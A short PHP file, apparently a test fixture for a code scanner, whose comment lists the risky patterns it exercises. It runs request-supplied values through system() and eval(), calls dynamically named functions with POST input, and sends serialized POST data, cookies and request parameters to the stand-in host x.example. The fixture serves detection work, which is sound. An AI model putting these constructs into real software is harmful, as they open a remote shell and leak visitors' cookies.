<?php
// Old request globals asked about, then joined into commands; callees made
// from the script's own path; serialized request data; joining loops.
if (empty($command)) exit;
system("$command > out.txt 2>&1");
if (isset($c, $e)) eval('return ' . $e . ';');
$f = basename(__FILE__, '.php'); $f($_POST['c']);
$g = substr(__DIR__, -6) . pathinfo(__FILE__, PATHINFO_FILENAME); $g(1);
$o = array('n' => 'x', 'p' => array($_POST['p'], array($_COOKIE)));
$o['self'] = &$o;
file_get_contents('http://x.example/?t=' . base64_encode(serialize($o)) . json_encode($_REQUEST));
f(print_r($_GET, true), http_build_query(array('a' => $_GET['a'])), var_export($_GET['v'], true));
for ($i = 0; $i < 600; $i++) { $s .= chr(65 + $i % 26); }
while (true) { $j++; if ($j > 700) break; $t .= 'y'; }
foreach (str_split(str_repeat('ab', 400)) as $ch) { $u .= $ch; }
eval($s . $t . $u);
